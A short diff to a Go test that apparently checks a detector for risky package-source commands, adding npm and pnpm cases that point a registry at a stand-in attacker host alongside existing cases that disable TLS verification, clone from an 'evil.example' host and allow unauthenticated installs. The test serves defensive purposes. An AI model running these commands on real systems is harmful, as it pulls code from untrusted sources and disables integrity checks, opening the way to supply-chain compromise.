@@ -54,6 +54,8 @@ func TestPackageSources(t *testing.T) {
 		{cmd: "git config --global http.sslVerify false", want: []string{off("http.sslVerify=false")}},
 		{cmd: "git clone --recurse-submodules https://git.evil.example/t.git", want: []string{src("https://git.evil.example/t.git")}},
 		{cmd: "GIT_CONFIG_PARAMETERS=\"'protocol.file.allow=always'\" git submodule update", want: []string{off("protocol.file.allow=always")}},
+		{cmd: "npm install --@acme:registry=https://npm.evil.example @acme/lib", want: []string{src("https://npm.evil.example")}},
+		{cmd: "pnpm install --config.registry=https://npm.evil.example", want: []string{src("https://npm.evil.example")}},
 		{cmd: "apt-get install -y --allow-unauthenticated foo", want: []string{off("--allow-unauthenticated")}},
 		// ordinary work
 		{cmd: "npm install lodash", notWant: []string{"install lodash " + detailPackageSource, "install lodash " + detailVerificationOff}},
